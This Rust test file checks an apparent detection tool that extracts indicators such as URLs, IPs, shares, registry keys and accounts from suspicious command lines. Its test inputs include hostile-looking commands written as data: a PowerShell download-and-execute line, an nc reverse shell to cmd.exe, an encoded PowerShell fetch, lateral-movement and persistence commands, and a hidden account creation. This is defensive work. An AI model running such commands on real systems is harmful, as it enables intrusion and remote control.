//! What `indicators` finds in command lines, and what it must leave alone.

use spawnscope::decode::{Command, decode, indicators};
use spawnscope::model::IndicatorKind::{
    self, Domain, Email, Hash, Host, Ip, Path, Pipe, Port, RegistryKey, Share, Task, Url, User,
};
use spawnscope::model::{Indicator, IndicatorNote};

fn found(text: &str) -> Vec<(IndicatorKind, String)> {
    indicators(text).into_iter().map(|found| (found.kind, found.value)).collect()
}

#[test]
fn each_kind_is_found_exactly() {
    let cases: &[(&str, &[(IndicatorKind, &str)])] = &[
        (
            "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/u.ps1')",
            &[(Url, "http://198.51.100.23/u.ps1"), (Ip, "198.51.100.23")],
        ),
        (
            "curl -o a https://user:pw@cdn.example.com:8443/a(1).exe?x=1&y=2#z, then",
            &[
                (Url, "https://user:pw@cdn.example.com:8443/a(1).exe?x=1&y=2#z"),
                (Domain, "cdn.example.com"),
                (Port, "8443"),
            ],
        ),
        ("iwr ('http://192.0.2.9/' + $a)", &[(Url, "http://192.0.2.9/"), (Ip, "192.0.2.9")]),
        (
            "iwr http://fileserver/x.ps1;dir",
            &[(Url, "http://fileserver/x.ps1"), (Host, "fileserver")],
        ),
        (
            "x http://[2001:db8::1]:80/a",
            &[(Url, "http://[2001:db8::1]:80/a"), (Ip, "2001:db8::1"), (Port, "80")],
        ),
        ("ping -n 3 127.0.0.1 & ping ::1", &[(Ip, "127.0.0.1"), (Ip, "::1")]),
        ("nc 203.0.113.44:443 -e cmd.exe", &[(Ip, "203.0.113.44"), (Port, "443")]),
        ("ping fe80::1ff:fe23:4567:890a%eth2", &[(Ip, "fe80::1ff:fe23:4567:890a")]),
        ("nslookup evil.example.com 8.8.8.8", &[(Domain, "evil.example.com"), (Ip, "8.8.8.8")]),
        ("ping EVIL.EXAMPLE.ORG", &[(Domain, "EVIL.EXAMPLE.ORG")]),
        ("net use \\\\FS01\\C$ /persistent:no", &[(Share, "\\\\FS01\\C$"), (Host, "FS01")]),
        (
            "copy a.exe \"\\\\10.0.0.5\\ADMIN$\\Temp\\a b.exe\"",
            &[
                (Share, "\\\\10.0.0.5\\ADMIN$"),
                (Ip, "10.0.0.5"),
                (Path, "\\\\10.0.0.5\\ADMIN$\\Temp\\a b.exe"),
            ],
        ),
        (
            "rundll32 C:\\Users\\a\\AppData\\Local\\Temp\\zcrash.dll,Start",
            &[(Path, "C:\\Users\\a\\AppData\\Local\\Temp\\zcrash.dll")],
        ),
        (
            "\"C:\\Program Files\\Zoom\\bin\\Zoom.exe\" --url=x",
            &[(Path, "C:\\Program Files\\Zoom\\bin\\Zoom.exe")],
        ),
        (
            "C:\\Program Files (x86)\\Common Files\\a.exe -x",
            &[(Path, "C:\\Program Files (x86)\\Common Files\\a.exe")],
        ),
        ("cmd /c \"C:\\My Tools\\a b.exe -run\"", &[(Path, "C:\\My Tools\\a b.exe")]),
        (
            "del %TEMP%\\a.dll %%APPDATA%%\\b.exe",
            &[(Path, "%TEMP%\\a.dll"), (Path, "%%APPDATA%%\\b.exe")],
        ),
        ("saps $env:TEMP\\a.exe", &[(Path, "$env:TEMP\\a.exe")]),
        (
            "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a",
            &[(RegistryKey, "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run")],
        ),
        ("sp 'HKLM:\\Software\\A B' x", &[(RegistryKey, "HKLM:\\Software\\A B")]),
        ("find d41d8cd98f00b204e9800998ecf8427e", &[(Hash, "d41d8cd98f00b204e9800998ecf8427e")]),
        (
            "SHA256=E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855",
            &[(Hash, "E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855")],
        ),
        ("Send-MailMessage -To drop.box+a@example.com", &[(Email, "a@example.com")]),
        ("mail joe.doe@example.co.uk now", &[(Email, "joe.doe@example.co.uk")]),
        ("ssh root@evil.example.com", &[(User, "root"), (Domain, "evil.example.com")]),
    ];
    check(cases);
}

#[test]
fn accounts_computers_tasks_and_ports_are_found_where_they_are_announced() {
    let cases: &[(&str, &[(IndicatorKind, &str)])] = &[
        ("echo x > \\\\.\\pipe\\msagent_12", &[(Pipe, "\\\\.\\pipe\\msagent_12")]),
        ("type \\\\DC01\\pipe\\svcctl", &[(Pipe, "\\\\DC01\\pipe\\svcctl"), (Host, "DC01")]),
        ("reg query \\\\WS-7\\HKLM\\SAM\\x", &[(Host, "WS-7"), (RegistryKey, "HKLM\\SAM\\x")]),
        ("psexec \\\\DC01 -s cmd", &[(Host, "DC01")]),
        ("net use Z: /user:CORP\\svc_backup x", &[(User, "CORP\\svc_backup")]),
        ("runas /user:\"CORP\\adm joe\" cmd", &[(User, "CORP\\adm joe")]),
        ("net1.exe user helper P@ss1 /add", &[(User, "helper")]),
        (
            "Get-WmiObject -ComputerName WS01 -Credential CORP\\x",
            &[(Host, "WS01"), (User, "CORP\\x")],
        ),
        ("wmic /node:\"10.1.2.3\" /user:adm process list", &[(Ip, "10.1.2.3"), (User, "adm")]),
        (
            "schtasks /create /tn \"My Task\" /ru SYSTEM /tr x",
            &[(Task, "My Task"), (User, "SYSTEM")],
        ),
        (
            "netsh interface portproxy add v4tov4 listenport=4444 connectport=3389",
            &[(Port, "4444"), (Port, "3389")],
        ),
        ("x E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855.exe ez", &[]),
    ];
    check(cases);
}

fn check(cases: &[(&str, &[(IndicatorKind, &str)])]) {
    for (text, expected) in cases {
        let expected: Vec<_> =
            expected.iter().map(|(kind, value)| (*kind, (*value).to_owned())).collect();
        assert_eq!(found(text), expected, "{text}");
    }
}

#[test]
fn what_only_looks_like_one_is_left_alone() {
    let texts = [
        "cmd.exe /c whoami.exe & net.exe user & a.ps1 b.bat",
        "New-Object Net.WebClient; New-Object IO.MemoryStream; [System.Net.Dns]::GetHostName()",
        "[System.IO.File]::ReadAllText($x); [Convert]::FromBase64String($b); [System.Net]; using System.IO",
        "$client.info $a.com [x.net] foo.com(1) %x.com%",
        "command.com /c format.com a:",
        "Version=4.0.0.0, Culture=neutral; Mozilla/5.0 Chrome/120.0.0.0; version 1.2.3.4; v10.0.19041.1",
        "10.0.19041.3636 1.2.3 256.1.1.1 1.2.3.4.5",
        "00:11:22:33:44:55 12:34:56 [Math]::Abs(1) ::ab C::d",
        "\\\\.\\pipe\\ \\\\?\\C:\\ C:\\ C: a:\\",
        "-replace '\\\\d+','' -split \"\\\\n\" -match '\\\\w' \\\\. \\\\",
        "/user: /user:$u /user:%U% -Credential (Get-Credential) -Credential $c -ComputerName $env:X",
        "net user /domain & net user > x; user joe; the user said; inet user joe",
        "localport=any localport=0 localport=70000 listenport= port=80 12:34 a:80",
        "[Net.ServicePointManager]::SecurityProtocol [Tls12]; $x[0]; a[.]b foo[.]exe {.}",
        "{D41D8CD9-8F00-B204-E980-0998ECF8427E} S-1-5-21-1004336348-1177238915-682003330-512",
        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk",
        "http://09.1.1.1/ http://256.1.1.1/ http://99999999999/ http://1.2.3.4.5/",
        "3232235777 0xC0A80101 0300.0250.1.1 start 3232235777",
        "{6ba7b810-9dad-11d1-80b4-00c04fd430c8} 12345678901234567890123456789012",
        "d41d8cd98f00b204e9800998ecf8427e0 /d41d8cd98f00b204e9800998ecf8427e/",
        "http:// https://%SERVER%/x http://$ip/x",
        "HKLM HKCU\\ a@b @splat user@host %TEMP% %x%",
        "'http://exam'+'ple.com/x'; ('ev'+'il.com') + '1.2.3.4'",
        "C:\\Windows\\System32\\cmd.exe",
        "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -nop",
    ];
    for text in texts {
        assert_eq!(found(text), [], "{text}");
    }
}

#[test]
fn layers_follow_the_input_without_repeats() {
    // `iwr http://192.0.2.7/a; ping 192.0.2.8` as UTF-16LE, by Python's base64 module.
    let line = "powershell -enc aQB3AHIAIABoAHQAdABwADoALwAvADEAOQAyAC4AMAAuADIALgA3AC8AYQA7ACAAcABpAG4AZwAgADEAOQAyAC4AMAAuADIALgA4AA==";
    let decoding = decode(&Command { text: line, ..Command::default() });
    let values: Vec<&str> = decoding.indicators.iter().map(|found| found.value.as_str()).collect();
    assert_eq!(values, ["http://192.0.2.7/a", "192.0.2.7", "192.0.2.8"]);
}

/// Numbers that stand for hosts, after the WHATWG URL Standard; the values by Python's
/// `socket.inet_aton` and `ipaddress`.
#[test]
fn disguised_addresses_are_told_plainly_in_urls_only() {
    let cases = [
        ("http://3232235777/a", "192.168.1.1"),
        ("http://0xC0A80101/", "192.168.1.1"),
        ("http://0xc0.0xa8.1.1/", "192.168.1.1"),
        ("http://0300.0250.0001.0001/", "192.168.1.1"),
        ("https://030052000401:8080/x", "192.168.1.1"),
        ("http://192.168.257/", "192.168.1.1"),
        ("http://user@3325256823/x", "198.51.100.119"),
        ("http://127.1/", "127.0.0.1"),
    ];
    for (text, address) in cases {
        let found = indicators(text);
        assert_eq!(found.first().map(|one| one.value.as_str()), Some(text), "{text}");
        let ip = found.iter().find(|one| one.kind == Ip);
        assert_eq!(ip.map(|one| one.value.as_str()), Some(address), "{text}");
        assert!(ip.is_some_and(|one| one.notes.contains(&IndicatorNote::Disguised)), "{text}");
    }
}

#[test]
fn what_people_write_so_that_it_cannot_be_clicked_is_mended() {
    let cases: &[(&str, &[(IndicatorKind, &str)])] = &[
        (
            "hxxps://evil[.]example[.]com:8443/a.ps1",
            &[
                (Url, "https://evil.example.com:8443/a.ps1"),
                (Domain, "evil.example.com"),
                (Port, "8443"),
            ],
        ),
        ("HXXP://198.51.100.7/x", &[(Url, "http://198.51.100.7/x"), (Ip, "198.51.100.7")]),
        (
            "http[:]//evil.example.com/",
            &[(Url, "http://evil.example.com/"), (Domain, "evil.example.com")],
        ),
        ("see evil(.)example[dot]org now", &[(Domain, "evil.example.org")]),
        ("ping 198[.]51[.]100[.]7", &[(Ip, "198.51.100.7")]),
    ];
    for (text, expected) in cases {
        let expected: Vec<_> =
            expected.iter().map(|(kind, value)| (*kind, (*value).to_owned())).collect();
        assert_eq!(found(text), expected, "{text}");
        assert!(indicators(text).iter().all(|one| {
            one.kind == Port || one.notes.first() == Some(&IndicatorNote::Disguised)
        }));
    }
}

#[test]
fn addresses_and_names_are_marked_never_dropped() {
    use IndicatorNote::{Documentation, LinkLocal, Loopback, Microsoft, Private, Special, Zoom};
    let cases: &[(&str, Option<IndicatorNote>)] = &[
        ("127.0.0.1", Some(Loopback)),
        ("::1", Some(Loopback)),
        ("10.9.8.7", Some(Private)),
        ("172.16.0.1", Some(Private)),
        ("172.32.0.1", None),
        ("192.168.4.4", Some(Private)),
        ("100.64.1.1", Some(Private)),
        ("169.254.1.1", Some(LinkLocal)),
        ("fe80::1:2", Some(LinkLocal)),
        ("fd12:3456::1", Some(Private)),
        ("192.0.2.1", Some(Documentation)),
        ("198.51.100.1", Some(Documentation)),
        ("203.0.113.9", Some(Documentation)),
        ("2001:db8::7", Some(Documentation)),
        ("224.0.0.251", Some(Special)),
        ("255.255.255.255", Some(Special)),
        ("8.8.8.8", None),
        ("www.msftconnecttest.com", Some(Microsoft)),
        ("login.microsoftonline.com", Some(Microsoft)),
        ("evilmicrosoft.com", None),
        ("microsoft.com.evil.ru", None),
        ("mine.cloudapp.azure.com", None),
        ("files.blob.core.windows.net", None),
        ("us04web.zoom.us", Some(Zoom)),
        ("notzoom.us", None),
        ("www.example.com", Some(Documentation)),
    ];
    for (value, expected) in cases {
        let found = indicators(&format!("ping {value}"));
        assert_eq!(found.len(), 1, "{value}: {found:?}");
        assert_eq!(found.first().and_then(|one| one.notes.first().copied()), *expected, "{value}");
    }
}

#[test]
fn each_says_where_it_stands() {
    // `iwr http://192.0.2.7/a; ping 192.0.2.8` as UTF-16LE, by Python's base64 module.
    let line = "powershell -w hidden -enc aQB3AHIAIABoAHQAdABwADoALwAvADEAOQAyAC4AMAAuADIALgA3AC8AYQA7ACAAcABpAG4AZwAgADEAOQAyAC4AMAAuADIALgA4AA== & net use \\\\FS01\\C$ /user:CORP\\joe";
    let line = format!("cmd /c {line}");
    let decoding = decode(&Command { text: &line, ..Command::default() });
    let mut texts = vec![line.as_str()];
    texts.extend(decoding.layers.iter().map(|layer| layer.text.as_str()));
    let place = |found: &Indicator| texts.get(found.layer)?.get(found.span.from..found.span.to);
    for found in &decoding.indicators {
        assert_eq!(place(found), Some(found.value.as_str()), "{found:?}");
    }
    let of_layer = |layer: usize| decoding.indicators.iter().filter(move |one| one.layer == layer);
    assert_eq!(of_layer(0).map(|one| one.kind).collect::<Vec<_>>(), [Share, Host, User]);
    assert_eq!(of_layer(1).map(|one| one.kind).collect::<Vec<_>>(), [Url, Ip, Ip]);
}

#[test]
fn many_are_told_apart_as_few_are() {
    let words: Vec<String> = (0..200).map(|n| format!("203.0.113.{}", n % 100)).collect();
    assert_eq!(indicators(&words.join(" ")).len(), 100);
}
